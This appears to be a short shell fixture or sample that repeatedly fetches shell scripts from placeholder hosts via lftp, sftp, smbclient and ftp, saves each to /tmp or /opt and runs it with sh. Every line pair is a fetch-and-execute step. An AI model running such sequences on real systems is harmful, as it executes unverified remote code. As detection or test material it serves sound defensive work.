#!/bin/sh
lftp -c "open -u a,b ftp.example.com; get x.sh -o /tmp/x.sh"
sh /tmp/x.sh
sftp u@dl.example.com:/srv/y.sh /opt/y.sh
sh /opt/y.sh
smbclient //dl.example.com/s -N -c 'get z.sh /opt/z.sh'
sh /opt/z.sh
ftp -n dl.example.com <<EOF
lcd /opt
get w.sh
EOF
sh /opt/w.sh
echo "get v.sh /opt/v.sh" | sftp u@dl.example.com
sh /opt/v.sh
